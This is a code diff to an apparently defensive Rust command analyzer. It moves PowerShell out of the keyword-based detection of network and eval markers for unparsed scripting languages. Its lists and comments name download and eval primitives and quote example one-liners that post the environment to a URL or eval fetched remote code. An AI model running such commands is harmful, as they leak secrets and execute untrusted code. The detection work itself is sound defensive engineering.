@@ -40,14 +40,6 @@ const UNPARSED_NETWORK_MARKERS: &[&str] = &[
     "stream_socket_client",
     "socket_connect",
     "socket(",
-    "Invoke-WebRequest",
-    "Invoke-RestMethod",
-    "iwr ",
-    "iwr(",
-    "irm ",
-    "irm(",
-    "Net.WebClient",
-    "DownloadString",
 ];
 
 /// What code in a language without a parser here writes to run text as code.
@@ -55,26 +47,20 @@ const UNPARSED_EVAL_MARKERS: &[&str] = &[
     "eval",
     "instance_eval",
     "class_eval",
-    "Invoke-Expression",
-    "iex ",
-    "iex(",
-    "IEX ",
-    "IEX(",
     "create_function",
     "assert(",
 ];
 
-/// Ruby, Perl, PHP and PowerShell code is not parsed here: code that names a network
+/// Ruby, Perl and PHP code is not parsed here (PowerShell is: `inline::powershell`): code that names a network
 /// connection and also reads the whole environment (`ruby -e 'Net::HTTP.post(URI("https://…"),
 /// ENV.to_h.to_s)'`) may send it, and code that names one and evaluates text (`php -r
-/// "eval(file_get_contents('https://…'));"`, `pwsh -c 'iex (iwr https://…)'`) may run what it
+/// "eval(file_get_contents('https://…'));"`) may run what it
 /// fetches: both are unsure.
 fn unparsed_code_effects(c: &SimpleCommand, out: &mut Out) {
     let lang = match c.basename() {
         "ruby" => "Ruby",
         "perl" | "perl5" => "Perl",
         "php" => "PHP",
-        "pwsh" | "powershell" | "powershell.exe" | "pwsh.exe" => "PowerShell",
         _ => return,
     };
     let has = |markers: &[&str]| {
@@ -107,8 +93,7 @@ pub(super) fn program_effects(c: &SimpleCommand, out: &mut Out) {
     match c.basename() {
         "git" => git_config(c, out),
         "crontab" | "at" | "batch" => scheduled_jobs(c, out),
-        "ruby" | "perl" | "perl5" | "php" | "pwsh" | "powershell" | "powershell.exe"
-        | "pwsh.exe" => unparsed_code_effects(c, out),
+        "ruby" | "perl" | "perl5" | "php" => unparsed_code_effects(c, out),
         _ => {}
     }
     // Database clients: the SQL they run.
